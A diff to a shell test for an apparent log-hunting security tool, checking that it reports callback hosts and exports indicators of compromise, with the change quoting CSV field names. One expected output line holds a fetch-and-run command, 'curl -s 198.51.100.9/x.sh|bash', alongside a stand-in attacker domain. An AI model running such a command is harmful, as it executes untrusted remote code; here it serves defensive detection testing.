@@ -184,9 +184,9 @@ X
     [ "$status" -eq 1 ]
     [[ "$output" == *"Log hunt summary"* && "$output" == *"callback hosts"* ]]
     [[ "$output" == *"203.0.113.7"* && "$output" == *"curl -s 198.51.100.9/x.sh|bash"* ]]
-    grep -q '^host,"x.evil.example"' "$L/iocs.csv"
-    grep -q '^ip,"203.0.113.7","attack source"' "$L/iocs.csv"
-    grep -q '^command,' "$L/iocs.csv"
+    grep -q '^"host","x.evil.example"' "$L/iocs.csv"
+    grep -q '^"ip","203.0.113.7","attack source"' "$L/iocs.csv"
+    grep -q '^"command",' "$L/iocs.csv"
     run "$KENSA" logs --quiet --iocs "$L/iocs.json" "$L/access.log"
     jq -e '.type == "bundle" and (.objects | length >= 2)
         and any(.objects[]; .pattern == "[domain-name:value = '"'"'x.evil.example'"'"']")
